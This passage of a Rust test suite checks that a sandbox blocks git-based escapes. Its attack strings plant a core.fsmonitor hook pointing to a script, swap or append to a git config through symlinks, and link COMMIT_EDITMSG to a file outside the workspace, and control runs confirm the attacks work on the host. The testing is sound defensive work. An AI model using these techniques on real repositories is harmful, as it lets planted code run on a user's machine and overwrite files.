            "mkdir sub && cd sub && git init -q && rm -rf .git/config .git/hooks \
             && ln -s {} .git/COMMIT_EDITMSG",
            fx.outside.join("target.txt").display()
        )
    };
    let user_commits = |fx: &Fixture| {
        let sub = fx.ws.join("sub");
        git_ok(
            fx,
            &[
                "-C",
                sub.to_str().unwrap(),
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "the user's message",
            ],
        );
    };
    let fx = Fixture::new();
    let records = fx.records();
    let victim = fx.outside.join("target.txt");
    let run = fx.attack(&records.opts(), &attack(&fx)).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &["sub/.git/COMMIT_EDITMSG"]);
    user_commits(&fx);
    assert_eq!(read_text(&victim).as_deref(), Some("original\n"));
    // Control: the same repository made on the host, and the commit writes through the link.
    let fx2 = Fixture::new();
    let victim2 = fx2.outside.join("target.txt");
    fx2.control(&attack(&fx2)).outcome().assert_ok();
    user_commits(&fx2);
    assert!(
        read_text(&victim2).is_some_and(|t| t.contains("the user's message")),
        "control: the commit did not write through the link"
    );
}

/// A git dir that a `.git` file points to, whose config is a symlink of the user's
/// (`gd/config -> config.real`, dotfile managers do this): a run that leaves it alone leaves
/// it in place (Docker and gVisor as root took it for a config the run had made and
/// quarantined it, into a directory the user could not move it back from: red team of issue
/// 33, eighth round), and a run that replaces it, or writes a live key through it, runs
/// nothing on the host. Control: the same replacement on the host, and git runs it.
#[test]
fn a_symlinked_config_of_a_redirected_git_dir_stays_and_stays_protected() {
    let fx = Fixture::new();
    let setup = |fx: &Fixture, gd: &str, sub: &str| {
        fx.git_host(&["init", "-q", "--bare", gd]).assert_success();
        let gdp = fx.ws.join(gd);
        std::fs::rename(gdp.join("config"), gdp.join("config.real")).unwrap();
        std::os::unix::fs::symlink("config.real", gdp.join("config")).unwrap();
        write_file(
            &fx.ws.join(sub).join(".git"),
            format!("gitdir: ../{gd}\n"),
            0o644,
        );
    };
    setup(&fx, "gd", "sub");
    let records = fx.records();
    let run = fx.attack(&records.opts(), "true").outcome();
    run.assert_ok();
    run.assert_lacks("violation");
    assert_eq!(
        std::fs::read_link(fx.ws.join("gd/config")).ok().as_deref(),
        Some(Path::new("config.real")),
        "the user's config link was taken away\n{}",
        run.run.describe()
    );
    let quarantined = attacks::quarantined_files(&fx.ws);
    assert!(quarantined.is_empty(), "quarantined: {quarantined:?}");

    let (script, flag) = fx.tripwire("pwned-symlinked-config");
    let live = format!("printf '[core]\\n\\tfsmonitor = {}\\n'", script.display());
    let wt = fx.root.join("wt");
    std::fs::create_dir_all(&wt).unwrap();
    let host_git = |fx: &Fixture, gd: &str| {
        let git_dir = format!("--git-dir={}", fx.ws.join(gd).display());
        let work_tree = format!("--work-tree={}", wt.display());
        fx.git_host(&[&git_dir, &work_tree, "status"]);
    };
    for attack in [
        format!("{live} > evil.cfg; ln -sfn ../evil.cfg gd/config"),
        format!("rm gd/config; {live} > gd/config"),
        format!("{live} >> gd/config"),
    ] {
        fx.attack(&[], &attack).outcome().ran();
        host_git(&fx, "gd");
        assert!(!flag.exists(), "host git ran what `{attack}` planted");
    }
    setup(&fx, "control", "csub");
    fx.control(&format!(
        "{live} > evil2.cfg; ln -sfn ../evil2.cfg control/config"
    ))
    .outcome()
    .assert_ok();
    host_git(&fx, "control");
    assert!(
        flag.exists(),
        "control: git did not run the replaced config"
    );
}
